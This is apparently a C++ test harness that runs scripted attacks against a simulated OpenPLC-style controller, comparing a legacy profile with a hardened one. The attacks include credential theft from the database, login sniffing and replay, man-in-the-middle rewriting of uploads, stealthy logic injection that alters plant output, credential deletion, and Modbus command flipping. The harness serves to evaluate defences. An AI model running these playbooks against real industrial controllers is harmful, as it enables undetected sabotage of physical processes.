#pragma once

// Attack-scenario runner and matrix reporter. Each scenario provisions a
// fresh store and server in the requested profile, executes its playbook,
// and returns machine-checkable evidence. The matrix runs the five core
// scenarios per profile and compares the outcome grid against the shipped
// expectations (legacy column all-success, aqua column all-failure).
//
// The attacker is modeled as a second loopback address (127.0.0.2) plus
// the unprivileged "other" filesystem identity; the operator works from
// 127.0.0.1 with the service identity.

#include <functional>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include <json.hpp>

#include "plcforge/aquasec.hpp"
#include "plcforge/common.hpp"
#include "plcforge/fieldbus.hpp"
#include "plcforge/netutil.hpp"
#include "plcforge/runtime.hpp"
#include "plcforge/store.hpp"
#include "plcforge/tap.hpp"

namespace plcforge::harness {

class EnvSetupFailure : public Error {
public:
    explicit EnvSetupFailure(const std::string& why) : Error("env setup failure: " + why) {}
};

class ScenarioPanicked : public Error {
public:
    ScenarioPanicked(const std::string& scenario, const std::string& why)
        : Error("scenario '" + scenario + "' panicked: " + why) {}
};

constexpr const char* kOperatorIp = "127.0.0.1";
constexpr const char* kAttackerIp = "127.0.0.2";

constexpr const char* kDemoProgram =
    "PROGRAM demo\n"
    "VAR\n"
    "  a AT %IX0.0 : BOOL;\n"
    "  b AT %IX0.1 : BOOL;\n"
    "  q AT %QX0.0 : BOOL;\n"
    "END_VAR\n"
    "q := a AND b;\n"
    "END_PROGRAM\n";

struct BundledProgram {
    std::string name;
    std::string source;
    int input_coils;  // all bundled programs read %IX0.0..N-1, write %QX0.0
};

// Boolean demo programs shipped with the harness; every one is expressible
// over at most four input coils so exhaustive checking stays trivial.
inline const std::vector<BundledProgram>& bundled_programs() {
    static const std::vector<BundledProgram> progs = {
        {"and_gate", kDemoProgram, 2},
        {"xor_mix",
         "PROGRAM xor_mix\n"
         "VAR\n"
         "  a AT %IX0.0 : BOOL;\n"
         "  b AT %IX0.1 : BOOL;\n"
         "  c AT %IX0.2 : BOOL;\n"
         "  d AT %IX0.3 : BOOL;\n"
         "  q AT %QX0.0 : BOOL;\n"
         "END_VAR\n"
         "q := (a XOR b) OR (c AND d);\n"
         "END_PROGRAM\n",
         4},
        {"nand_nest",
         "PROGRAM nand_nest\n"
         "VAR\n"
         "  a AT %IX0.0 : BOOL;\n"
         "  b AT %IX0.1 : BOOL;\n"
         "  c AT %IX0.2 : BOOL;\n"
         "  q AT %QX0.0 : BOOL;\n"
         "END_VAR\n"
         "q := NOT (a AND (b OR c));\n"
         "END_PROGRAM\n",
         3},
        {"if_select",
         "PROGRAM if_select\n"
         "VAR\n"
         "  a AT %IX0.0 : BOOL;\n"
         "  b AT %IX0.1 : BOOL;\n"
         "  c AT %IX0.2 : BOOL;\n"
         "  q AT %QX0.0 : BOOL;\n"
         "END_VAR\n"
         "IF a THEN q := b; ELSE q := c; END_IF;\n"
         "END_PROGRAM\n",
         3},
    };
    return progs;
}

struct AttackOutcome {
    std::string scenario;
    Profile profile = Profile::Legacy;
    bool success = false;
    std::vector<std::pair<std::string, std::string>> evidence;

    void add(const std::string& label, const std::string& value) {
        evidence.emplace_back(label, value);
    }

    std::string find(const std::string& label) const {
        for (const auto& [k, v] : evidence)
            if (k == label) return v;
        return "";
    }
};

// ---------------------------------------------------------------------------
// HTTP client wrapper speaking either plaintext or TLS

class WebClient {
public:
    WebClient(std::string host, int port, bool tls, std::string pin_fingerprint = "",
              std::string bind_ip = "")
        : host_(std::move(host)),
          port_(port),
          tls_(tls),
          pin_(std::move(pin_fingerprint)),
          bind_ip_(std::move(bind_ip)) {}

    net::HttpResponse get(const std::string& path, const std::string& cookie = "") {
        return request("GET", path, "", "", cookie);
    }

    net::HttpResponse post_form(const std::string& path,
                                const std::vector<std::pair<std::string, std::string>>& fields,
                                const std::string& cookie = "") {
        std::string body;
        for (const auto& [k, v] : fields) {
            if (!body.empty()) body += "&";
            body += net::url_encode(k) + "=" + net::url_encode(v);
        }
        return request("POST", path, body, "application/x-www-form-urlencoded", cookie);
    }

    net::HttpResponse post_raw(const std::string& path, const std::string& body,
                               const std::string& cookie = "") {
        return request("POST", path, body, "application/octet-stream", cookie);
    }

    net::HttpResponse request(const std::string& method, const std::string& path,
                              const std::string& body, const std::string& content_type,
                              const std::string& cookie) {
        std::map<std::string, std::string> headers;
        if (!content_type.empty()) headers["Content-Type"] = content_type;
        if (!cookie.empty()) headers["Cookie"] = "session=" + cookie;
        std::string raw = net::build_http_request(method, path,
                                                  host_ + ":" + std::to_string(port_), headers, body);
        if (tls_) {
            auto r = net::tls_request_raw(host_, port_, raw, bind_ip_, pin_);
            if (r.transport_error) return net::HttpResponse{};
            return net::parse_http_response(r.raw);
        }
        return net::http_request_raw(host_, port_, raw, bind_ip_);
    }

private:
    std::string host_;
    int port_;
    bool tls_;
    std::string pin_;
    std::string bind_ip_;
};

// ---------------------------------------------------------------------------
// Environment

struct EnvOptions {
    uint64_t seed = 0;  // nonzero pins tokens, copy names and record dates
    int scan_period_ms = 10;
    int compile_step_ms = 15;
};

// Record dates are pinned under seeded runs so that two matrix runs render
// byte-identical pages and evidence.
constexpr std::time_t kPinnedEpoch = 1688565241;  // 2023-07-05 (UTC)

class Env {
public:
    Env(Profile profile, EnvOptions opt = {}) : opt_(opt) {
        try {
            dir_ = std::make_unique<TempDir>("plcforge-env");
            aquasec::install(dir_->path(), profile);
            RuntimeOptions ro;
            ro.profile = profile;
            ro.root = dir_->path();
            ro.scan_period_ms = opt.scan_period_ms;
            ro.compile_step_ms = opt.compile_step_ms;
            if (opt.seed != 0) {
                ro.seed = opt.seed;
                ro.fixed_time = kPinnedEpoch;
            }
            runtime_ = std::make_unique<Runtime>(std::move(ro));
            runtime_->start();
        } catch (const std::exception& e) {
            throw EnvSetupFailure(e.what());
        }
    }

    Runtime& runtime() { return *runtime_; }
    Store& store() { return runtime_->store(); }
    Profile profile() { return runtime_->profile(); }
    const fs::path& root() { return runtime_->store().root(); }
    bool tls() { return profile() == Profile::Aqua; }

    WebClient operator_client(int port = 0) {
        return WebClient("127.0.0.1", port ? port : runtime_->http_port(), tls(),
                         tls() ? runtime_->tls_fingerprint() : "", "");
    }

    WebClient attacker_client(int port = 0) {
        return WebClient("127.0.0.1", port ? port : runtime_->http_port(), tls(),
                         "", kAttackerIp);
    }

    // Waits until at least `cycles` further scans have completed.
    void settle_scans(uint64_t cycles = 2, int deadline_ms = 1000) {
        uint64_t target = runtime_->scan_count() + cycles;
        int64_t deadline = steady_ms() + deadline_ms;
        while (runtime_->scan_count() < target && steady_ms() < deadline)
            std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }

private:
    EnvOptions opt_;
    std::unique_ptr<TempDir> dir_;
    std::unique_ptr<Runtime> runtime_;
};

// ---------------------------------------------------------------------------
// Operator playbook helpers

struct Provisioned {
    std::string cookie;
    int prog_id = 0;
    std::string copy_name;
};

inline std::string poll_compilation_logs(WebClient& client, const std::string& cookie,
                                         int deadline_ms = 8000) {
    int64_t deadline = steady_ms() + deadline_ms;
    std::string body;
    while (steady_ms() < deadline) {
        auto r = client.get("/compilation-logs", cookie);
        body = r.body;
        if (body.find("Compilation finished successfully!") != std::string::npos ||
            body.find("Error:") != std::string::npos)
            return body;
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    return body;
}

inline std::string parse_copy_name(const std::string& upload_body) {
    auto pos = upload_body.find("copy: ");
    if (pos == std::string::npos) return "";
    return upload_body.substr(pos + 6, 9);
}

inline std::string login(WebClient& client, const std::string& username,
                         const std::string& password) {
    auto r = client.post_form("/login", {{"username", username}, {"password", password}});
    return r.status == 302 ? r.session_cookie() : "";
}

// Full upload -> action -> compile -> poll -> start pass as the legitimate
// local operator.
inline Provisioned provision_program(Env& env, const std::string& source,
                                     const std::string& title = "user_program") {
    WebClient op = env.operator_client();
    Provisioned p;
    p.cookie = login(op, "openplc", "openplc");
    if (p.cookie.empty()) throw EnvSetupFailure("operator login failed");
    auto up = op.post_raw("/upload-program", source, p.cookie);
    p.copy_name = parse_copy_name(up.body);
    if (up.status != 200 || p.copy_name.empty()) throw EnvSetupFailure("upload failed");
    auto act = op.post_form("/upload-program-action",
                            {{"prog_name", title}, {"copy_name", p.copy_name}}, p.cookie);
    if (act.status != 200) throw EnvSetupFailure("upload action failed");
    auto rec = env.store().find_program_by_copy(p.copy_name);
    if (!rec) throw EnvSetupFailure("record missing after action");
    p.prog_id = rec->prog_id;
    auto comp = op.get("/compile-program?file=" + p.copy_name, p.cookie);
    if (comp.status != 200) throw EnvSetupFailure("compile request failed");
    std::string log = poll_compilation_logs(op, p.cookie);
    if (log.find("Compilation finished successfully!") == std::string::npos)
        throw EnvSetupFailure("compilation did not finish");
    auto start = op.get("/start-plc", p.cookie);
    if (start.status != 302) throw EnvSetupFailure("start-plc failed");
    env.settle_scans();
    return p;
}

// Exhaustive 16-vector output capture through the fieldbus; input coils
// 0..3 are driven, output coil 0 is read back after the scan settles.
inline std::string capture_truth_table(Env& env, int modbus_port = 0) {
    fieldbus::Client cli("127.0.0.1", modbus_port ? modbus_port : env.runtime().modbus_port());
    std::string table;
    for (int v = 0; v < 16; ++v) {
        for (uint16_t i = 0; i < 4; ++i) cli.write_coil(i, (v >> i) & 1);
        env.settle_scans();
        table += cli.read_coils(0, 1)[0] ? '1' : '0';
    }
    return table;
}

inline std::string md5_hex(const std::string& s) {
    return hex_encode(aquasec::md5_digest(to_bytes(s)));
}

inline std::string record_fields(const ProgramRecord& r) {
    return std::to_string(r.prog_id) + "|" + r.title + "|" + r.copy_name + "|" + r.upload_date;
}

inline std::vector<std::string> split_unit_fields(const std::string& line) {
    std::vector<std::string> f;
    size_t start = 0;
    for (;;) {
        size_t sep = line.find('\x1f', start);
        if (sep == std::string::npos) {
            f.push_back(line.substr(start));
            break;
        }
        f.push_back(line.substr(start, sep - start));
        start = sep + 1;
    }
    return f;
}

// The attacker's dbreader: pull the default account's stored username and
// password fields out of raw openplc.db text.
inline std::optional<std::pair<std::string, std::string>> db_stored_credentials(
    const std::string& db_text) {
    for (const auto& line : split_lines(db_text)) {
        auto f = split_unit_fields(line);
        if (f.size() >= 5 && f[0] == std::to_string(kDefaultUserId))
            return std::make_pair(f[2], f[3]);
    }
    return std::nullopt;
}

// Pulls "username=...&password=..." out of a captured byte stream.
inline std::optional<std::pair<std::string, std::string>> extract_credentials(
    const std::string& stream) {
    auto upos = stream.find("username=");
    if (upos == std::string::npos) return std::nullopt;
    auto uend = stream.find('&', upos);
    if (uend == std::string::npos) return std::nullopt;
    std::string username = net::url_decode(stream.substr(upos + 9, uend - upos - 9));
    auto ppos = stream.find("password=", uend);
    if (ppos == std::string::npos) return std::nullopt;
    auto pend = stream.find_first_of("&\r\n ", ppos + 9);
    std::string password = net::url_decode(
        stream.substr(ppos + 9, pend == std::string::npos ? std::string::npos : pend - ppos - 9));
    if (username.empty() || password.empty()) return std::nullopt;
    return std::make_pair(username, password);
}

// ---------------------------------------------------------------------------
// Scenario playbooks

namespace scenarios {

// Local unprivileged reads of openplc.db and active_program.
inline void access(Env& env, AttackOutcome& out) {
    provision_program(env, kDemoProgram);
    Store& store = env.store();
    std::string db_text, index_text;
    try {
        db_text = to_string(store.read_as(FsIdentity::Other, "openplc.db"));
        out.add("db_read", "ok");
    } catch (const PermissionDenied&) {
        out.add("db_read", "denied");
        out.success = false;
        return;
    }
    try {
        index_text = to_string(store.read_as(FsIdentity::Other, "webserver/active_program"));
        out.add("active_program", index_text);
    } catch (const PermissionDenied&) {
        out.add("active_program_read", "denied");
        out.success = false;
        return;
    }
    auto creds = db_stored_credentials(db_text);
    bool parseable = creds && creds->first == "openplc" && creds->second == "openplc";
    out.add("credentials_plaintext", parseable ? "yes" : "no");
    out.success = parseable && valid_copy_name(index_text);
}

// Session establishment from the attacker address using credentials taken
// from a transcript or from the database, default account as fallback.
inline void auth(Env& env, AttackOutcome& out) {
    tap::Tap wire("127.0.0.1", env.runtime().http_port());
    wire.start();
    WebClient via_tap = env.operator_client(wire.port());
    std::string op_cookie = login(via_tap, "openplc", "openplc");
    out.add("operator_login_via_tap", op_cookie.empty() ? "failed" : "ok");

    auto transcript = wire.transcript();
    auto creds = extract_credentials(transcript.c2s_bytes());
    out.add("transcript_credentials", creds ? creds->first + ":" + creds->second : "none");
    if (!creds) {
        try {
            std::string db_text = to_string(env.store().read_as(FsIdentity::Other, "openplc.db"));
            creds = db_stored_credentials(db_text);
            out.add("db_credentials", creds ? "extracted" : "unparseable");
        } catch (const PermissionDenied&) {
            out.add("db_credentials", "denied");
        }
    }
    if (!creds) {
        creds = std::make_pair(std::string("openplc"), std::string("openplc"));
        out.add("fallback", "default account");
    }
    wire.stop();

    WebClient attacker = env.attacker_client();
    auto r = attacker.post_form("/login", {{"username", creds->first}, {"password", creds->second}});
    out.add("attacker_login_status", std::to_string(r.status));
    std::string cookie = r.session_cookie();
    out.add("attacker_cookie", cookie.empty() ? "none" : "issued");
    out.success = r.status == 302 && !cookie.empty();
}

// Verbatim replay of a recorded login byte stream from the attacker address.
inline void replay(Env& env, AttackOutcome& out) {
    tap::Tap wire("127.0.0.1", env.runtime().http_port());
    wire.start();
    WebClient via_tap = env.operator_client(wire.port());
    std::string op_cookie = login(via_tap, "openplc", "openplc");
    out.add("operator_login_via_tap", op_cookie.empty() ? "failed" : "ok");
    auto transcript = wire.transcript();
    wire.stop();
    if (transcript.empty()) {
        out.add("transcript", "empty");
        out.success = false;
        return;
    }

    auto result = tap::replay(transcript, "127.0.0.1", env.runtime().http_port(), kAttackerIp);
    out.add("transport_error", result.transport_error ? "yes" : "no");
    auto parsed = net::parse_http_response(result.response);
    bool authenticated = !result.transport_error && parsed.status == 302 &&
                         !parsed.session_cookie().empty();
    out.add("replayed_status", std::to_string(parsed.status));
    out.add("replay_cookie", parsed.session_cookie().empty() ? "none" : "issued");
    out.success = authenticated;
}

// In-path rewrite of an upload: the stored copy must differ from what the
// operator sent while the operator sees only success.
inline void mitm(Env& env, AttackOutcome& out) {
    provision_program(env, kDemoProgram);
    tap::RewriteRule rule = env.profile() == Profile::Legacy
                                ? tap::RewriteRule::pattern_c2s(" AND ", " OR  ")
                                : tap::RewriteRule::tls_tamper();
    tap::Tap wire("127.0.0.1", env.runtime().http_port(), rule);
    wire.start();

    WebClient via_tap = env.operator_client(wire.port());
    std::string cookie = login(via_tap, "openplc", "openplc");
    if (cookie.empty()) {
        // TLS through the tampering tap may already fail at the handshake;
        // fall back to a direct login, the upload still goes via the tap.
        WebClient direct = env.operator_client();
        cookie = login(direct, "openplc", "openplc");
    }
    std::string sent = kDemoProgram;
    auto r = via_tap.post_raw("/upload-program", sent, cookie);
    wire.stop();

    out.add("operator_status", std::to_string(r.status));
    std::string copy = parse_copy_name(r.body);
    if (r.transport_error || r.status != 200 || copy.empty()) {
        out.add("upload", "did not complete");
        out.success = false;
        return;
    }
    std::string stored = read_file_text(env.store().webserver() / copy);
    out.add("stored_differs", stored != sent ? "yes" : "no");
    out.add("stored_md5", md5_hex(stored));
    out.add("sent_md5", md5_hex(sent));
    out.success = stored != sent && r.status == 200;
}

// Full patching flow: identify the target via active_program, mutate the
// copy on disk, authenticate, compile, poll, start; succeed only when the
// plant behavior changed while everything the operator can see stayed
// byte-identical.
inline void injection(Env& env, AttackOutcome& out) {
    Provisioned prov = provision_program(env, kDemoProgram);
    Store& store = env.store();
    WebClient op = env.operator_client();

    std::string baseline_truth = capture_truth_table(env);
    auto rec_before = store.find_program(prov.prog_id);
    std::string programs_before = op.get("/programs", prov.cookie).body;
    std::string dashboard_before = op.get("/dashboard", prov.cookie).body;
    out.add("baseline_truth", baseline_truth);
    out.add("record_before", record_fields(*rec_before));

    // Step 1: identify the target copy as the unprivileged local user.
    std::string target;
    try {
        target = to_string(store.read_as(FsIdentity::Other, "webserver/active_program"));
        out.add("target_copy", target);
    } catch (const PermissionDenied&) {
        out.add("active_program_read", "denied");
    }

    // Step 2: mutate one operator in the copy on disk.
    bool mutated = false;
    if (!target.empty()) {
        try {
            std::string src = to_string(store.read_as(FsIdentity::Other, "webserver/" + target));
            std::string altered = src;
            if (replace_first(altered, "AND", "OR")) {
                store.write_as(FsIdentity::Other, "webserver/" + target, to_bytes(altered));
                mutated = true;
                out.add("mutation", "AND->OR");
            }
        } catch (const PermissionDenied&) {
            out.add("copy_write", "denied");
        }
    }

    // Step 3: obtain a session from the attacker address.
    std::string attacker_cookie;
    if (mutated) {
        std::optional<std::pair<std::string, std::string>> creds;
        try {
            creds = db_stored_credentials(
                to_string(store.read_as(FsIdentity::Other, "openplc.db")));
        } catch (const PermissionDenied&) {
            out.add("db_read", "denied");
        }
        if (creds) {
            WebClient attacker = env.attacker_client();
            attacker_cookie = login(attacker, creds->first, creds->second);
            out.add("attacker_session", attacker_cookie.empty() ? "refused" : "issued");
        }
    } else if (env.profile() == Profile::Aqua) {
        // Document the remaining closed doors for the evidence trail.
        tap::Tap wire("127.0.0.1", env.runtime().http_port());
        wire.start();
        WebClient via_tap = env.operator_client(wire.port());
        login(via_tap, "openplc", "openplc");
        auto transcript = wire.transcript();
        wire.stop();
        out.add("transcript_credentials",
                extract_credentials(transcript.c2s_bytes()) ? "exposed" : "none");
        if (!transcript.empty()) {
            auto rep = tap::replay(transcript, "127.0.0.1", env.runtime().http_port(), kAttackerIp);
            out.add("replay", rep.transport_error ? "transport_error" : "answered");
        }
    }

    // Step 4: crafted compile + poll + start via the replayable packet flow.
    bool executed = false;
    if (!attacker_cookie.empty()) {
        WebClient attacker = env.attacker_client();
        auto comp = attacker.get("/compile-program?file=" + target, attacker_cookie);
        std::string log = poll_compilation_logs(attacker, attacker_cookie);
        bool compiled = comp.status == 200 &&
                        log.find("Compilation finished successfully!") != std::string::npos;
        out.add("compile", compiled ? "finished" : "failed");
        auto start = attacker.get("/start-plc", attacker_cookie);
        executed = compiled && start.status == 302;
        out.add("start_status", std::to_string(start.status));
        env.settle_scans();
    }

    if (!executed) {
        out.success = false;
        return;
    }

    // Verdict: behavior changed, surface unchanged.
    std::string post_truth = capture_truth_table(env);
    auto rec_after = store.find_program(prov.prog_id);
    std::string programs_after = op.get("/programs", prov.cookie).body;
    std::string dashboard_after = op.get("/dashboard", prov.cookie).body;

    int changed_vector = -1;
    for (size_t i = 0; i < post_truth.size(); ++i)
        if (post_truth[i] != baseline_truth[i]) {
            changed_vector = static_cast<int>(i);
            break;
        }
    bool stealthy = rec_after && *rec_after == *rec_before &&
                    store.programs().size() == 1 && programs_after == programs_before &&
                    dashboard_after == dashboard_before;
    out.add("post_truth", post_truth);
    out.add("changed_vector", std::to_string(changed_vector));
    out.add("record_after", record_fields(*rec_after));
    out.add("programs_body_md5", md5_hex(programs_before) + "/" + md5_hex(programs_after));
    out.add("dashboard_body_md5", md5_hex(dashboard_before) + "/" + md5_hex(dashboard_after));
    out.add("stealthy", stealthy ? "yes" : "no");
    out.success = changed_vector >= 0 && stealthy;
}

// Hook-script WRITE primitive corrupting a stored copy without any alert.
inline void psm_injection(Env& env, AttackOutcome& out) {
    Provisioned prov = provision_program(env, kDemoProgram);
    std::string baseline_truth = capture_truth_table(env);
    out.add("baseline_truth", baseline_truth);

    std::optional<std::pair<std::string, std::string>> creds;
    try {
        creds = db_stored_credentials(
            to_string(env.store().read_as(FsIdentity::Other, "openplc.db")));
    } catch (const PermissionDenied&) {
        out.add("db_read", "denied");
    }
    if (!creds) {
        out.success = false;
        return;
    }
    WebClient attacker = env.attacker_client();
    std::string cookie = login(attacker, creds->first, creds->second);
    if (cookie.empty()) {
        out.add("attacker_session", "refused");
        out.success = false;
        return;
    }
    std::string mutated = kDemoProgram;
    replace_first(mutated, "AND", "OR");
    std::string script = "WRITE webserver/" + prov.copy_name + " " + base64_encode(mutated);
    auto r = attacker.post_form("/hardware", {{"hook_script", script}}, cookie);
    out.add("hardware_status", std::to_string(r.status));
    if (r.status != 200) {
        out.success = false;
        return;
    }
    env.settle_scans();
    std::string post_truth = capture_truth_table(env);
    auto dash = env.runtime().dashboard();
    out.add("post_truth", post_truth);
    out.add("alert", dash.alert.empty() ? "(none)" : dash.alert);
    out.success = post_truth != baseline_truth && dash.alert.empty();
}

// Deleting stored credentials denies the legitimate operator access.
inline void deny_of_access(Env& env, AttackOutcome& out) {
    Store& store = env.store();
    try {
        std::string db_text = to_string(store.read_as(FsIdentity::Other, "openplc.db"));
        std::string gutted;
        for (const auto& line : split_lines(db_text)) {
            if (line.rfind(std::to_string(kDefaultUserId), 0) == 0 &&
                line.find('\x1f') != std::string::npos)
                continue;  // drop the credential record
            gutted += line + "\n";
        }
        store.write_as(FsIdentity::Other, "openplc.db", to_bytes(gutted));
        out.add("db_write", "ok");
    } catch (const PermissionDenied&) {
        out.add("db_write", "denied");
        out.success = false;
        return;
    }
    WebClient op = env.operator_client();
    auto r = op.post_form("/login", {{"username", "openplc"}, {"password", "openplc"}});
    out.add("operator_login_status", std::to_string(r.status));
    out.success = r.status == 401;
}

// Blanking active_program turns start-plc into an HTTP 500.
inline void index_corruption(Env& env, AttackOutcome& out) {
    Provisioned prov = provision_program(env, kDemoProgram);
    try {
        env.store().write_as(FsIdentity::Other, "webserver/active_program", Bytes{});
        out.add("index_write", "ok");
    } catch (const PermissionDenied&) {
        out.add("index_write", "denied");
        out.success = false;
        return;
    }
    WebClient op = env.operator_client();
    auto r = op.get("/start-plc", prov.cookie);
    out.add("start_status", std::to_string(r.status));
    out.success = r.status == 500;
}

// False command injection on the fieldbus: the coil write is flipped in
// flight, the echo shows the client its own intent, and the plant output
// diverges from it. Expected to succeed in BOTH profiles.
inline void modbus_fci(Env& env, AttackOutcome& out) {
    provision_program(env, kDemoProgram);
    tap::Tap wire("127.0.0.1", env.runtime().modbus_port(), tap::RewriteRule::coil_flip(0));
    wire.start();

    fieldbus::Client hmi("127.0.0.1", wire.port());
    hmi.write_coil(0, true);  // flipped to OFF in flight
    hmi.write_coil(1, true);
    env.settle_scans();
    bool observed = hmi.read_coils(0, 1)[0];
    wire.stop();

    bool intended = true && true;  // q = a AND b with both commanded ON
    out.add("intended_output", intended ? "1" : "0");
    out.add("observed_output", observed ? "1" : "0");
    bool server_input = false;
    {
        auto regs = env.runtime().regs();
        std::lock_guard lk(regs->mu);
        server_input = regs->regs.input_coils[0];
    }
    out.add("server_side_coil0", server_input ? "1" : "0");
    out.success = observed != intended && !server_input;
}

}  // namespace scenarios

// ---------------------------------------------------------------------------
// Runner

inline const std::vector<std::string>& core_scenarios() {
    static const std::vector<std::string> names = {"auth", "mitm", "injection", "replay", "access"};
    return names;
}

inline const std::vector<std::string>& extra_scenarios() {
    static const std::vector<std::string> names = {"psm-injection", "deny-of-access",
                                                   "index-corruption", "modbus-fci"};
    return names;
}

inline std::string scenario_label(const std::string& name) {
    if (name == "auth") return "Authentication Attack";
    if (name == "mitm") return "Man-in-the-Middle Attack";
    if (name == "injection") return "Control Logic Injection Attack";
    if (name == "replay") return "Replay Attack";
    if (name == "access") return "Access Attack";
    return name;
}

inline AttackOutcome run_scenario(const std::string& name, Profile profile, EnvOptions opt = {}) {
    using Playbook = std::function<void(Env&, AttackOutcome&)>;
    static const std::vector<std::pair<std::string, Playbook>> table = {
        {"access", scenarios::access},
        {"auth", scenarios::auth},
        {"replay", scenarios::replay},
        {"mitm", scenarios::mitm},
        {"injection", scenarios::injection},
        {"psm-injection", scenarios::psm_injection},
        {"deny-of-access", scenarios::deny_of_access},
        {"index-corruption", scenarios::index_corruption},
        {"modbus-fci", scenarios::modbus_fci},
    };
    const Playbook* playbook = nullptr;
    for (const auto& [n, p] : table)
        if (n == name) playbook = &p;
    if (!playbook) throw Error("unknown scenario '" + name + "'");

    AttackOutcome out;
    out.scenario = name;
    out.profile = profile;
    Env env(profile, opt);  // EnvSetupFailure propagates
    try {
        (*playbook)(env, out);
    } catch (const EnvSetupFailure&) {
        throw;
    } catch (const std::exception& e) {
        throw ScenarioPanicked(name, e.what());
    }
    return out;
}

// ---------------------------------------------------------------------------
// Matrix

struct MatrixCell {
    std::string scenario;  // internal name
    Profile profile;
    bool success = false;
    bool expected = false;
};

struct MatrixReport {
    std::vector<MatrixCell> cells;
    std::vector<AttackOutcome> outcomes;
    bool pass = false;

    std::string render_text() const {
        auto pad = [](const std::string& s, size_t width, size_t display_len) {
            return s + std::string(width > display_len ? width - display_len : 1, ' ');
        };
        std::string out = pad("Attack scenario", 34, 15) + pad("v3", 6, 2) + "Aqua\n";
        for (const auto& name : core_scenarios()) {
            std::string v3 = " ", aqua = " ";
            for (const auto& c : cells) {
                if (c.scenario != name) continue;
                std::string mark = c.success ? "✓" : "-";  // one display column either way
                if (c.profile == Profile::Legacy)
                    v3 = mark;
                else
                    aqua = mark;
            }
            std::string label = scenario_label(name);
            out += pad(label, 34, label.size()) + pad(v3, 6, 1) + aqua + "\n";
        }
        out += "(Neo and 61850 columns: not modeled)\n";
        out += std::string("matrix: ") + (pass ? "PASS" : "FAIL") + "\n";
        return out;
    }

    nlohmann::json to_json() const {
        nlohmann::json cells_json = nlohmann::json::array();
        for (const auto& c : cells) {
            cells_json.push_back({{"scenario", c.scenario},
                                  {"label", scenario_label(c.scenario)},
                                  {"profile", profile_name(c.profile)},
                                  {"success", c.success},
                                  {"expected", c.expected}});
        }
        nlohmann::json outcomes_json = nlohmann::json::array();
        for (const auto& o : outcomes) {
            nlohmann::json ev = nlohmann::json::array();
            for (const auto& [k, v] : o.evidence) ev.push_back({{"label", k}, {"value", v}});
            outcomes_json.push_back({{"scenario", o.scenario},
                                     {"profile", profile_name(o.profile)},
                                     {"success", o.success},
                                     {"evidence", ev}});
        }
        return {{"pass", pass}, {"cells", cells_json}, {"outcomes", outcomes_json}};
    }
};

// Expected outcome per (scenario, profile); ships with the repo as
// data/expected_matrix.json and is mirrored here as the built-in default.
inline bool default_expectation(const std::string& /*scenario*/, Profile profile) {
    return profile == Profile::Legacy;
}

inline std::optional<bool> expectation_from_file(const fs::path& file, const std::string& scenario,
                                                 Profile profile) {
    if (file.empty() || !fs::exists(file)) return std::nullopt;
    auto doc = nlohmann::json::parse(read_file_text(file));
    std::string col = profile == Profile::Legacy ? "v3" : "Aqua";
    for (const auto& row : doc.at("rows")) {
        if (row.at("scenario").get<std::string>() == scenario_label(scenario))
            return row.at(col).get<bool>();
    }
    return std::nullopt;
}

inline MatrixReport run_matrix(std::vector<Profile> profiles = {Profile::Legacy, Profile::Aqua},
                               uint64_t seed = 0, const fs::path& expected_file = {},
                               EnvOptions base_opt = {}) {
    MatrixReport report;
    report.pass = true;
    uint64_t child = 0;
    for (Profile profile : profiles) {
        for (const auto& name : core_scenarios()) {
            EnvOptions opt = base_opt;
            // Derive a per-scenario seed so reports are reproducible.
            opt.seed = seed == 0 ? 0 : seed + 1000 * (profile == Profile::Aqua ? 2 : 1) + child;
            ++child;
            AttackOutcome outcome = run_scenario(name, profile, opt);
            MatrixCell cell;
            cell.scenario = name;
            cell.profile = profile;
            cell.success = outcome.success;
            cell.expected = expectation_from_file(expected_file, name, profile)
                                .value_or(default_expectation(name, profile));
            report.pass = report.pass && cell.success == cell.expected;
            report.cells.push_back(cell);
            report.outcomes.push_back(std::move(outcome));
        }
    }
    return report;
}

// ---------------------------------------------------------------------------
// Database inspector (the attacker's dbreader)

inline std::string inspect_db(const fs::path& root, FsIdentity identity) {
    Store store = Store::open(root);
    std::string text = to_string(store.read_as(identity, "openplc.db"));  // may throw
    std::string out = "*****Users*****\n";
    std::string section;
    std::string programs;
    for (const auto& line : split_lines(text)) {
        if (line.empty()) continue;
        if (line.front() == '[') {
            section = line;
            continue;
        }
        auto f = split_unit_fields(line);
        if (section == "[users]" && f.size() >= 5) {
            std::string picture = f.size() > 5 && !f[5].empty() ? f[5] : "None";
            out += f[0] + ": " + f[1] + " | " + f[2] + " | " + f[4] + " | " + f[3] + " | " +
                   picture + "\n";
        } else if (section == "[programs]" && f.size() >= 4) {
            programs += "PID: " + f[0] + " | TITLE: " + f[1] + " | FILE: " + f[2] +
                        " | UPLOADED: " + f[3] + "\n";
        }
    }
    out += "*****Programs*****\n" + programs;
    return out;
}

}  // namespace plcforge::harness
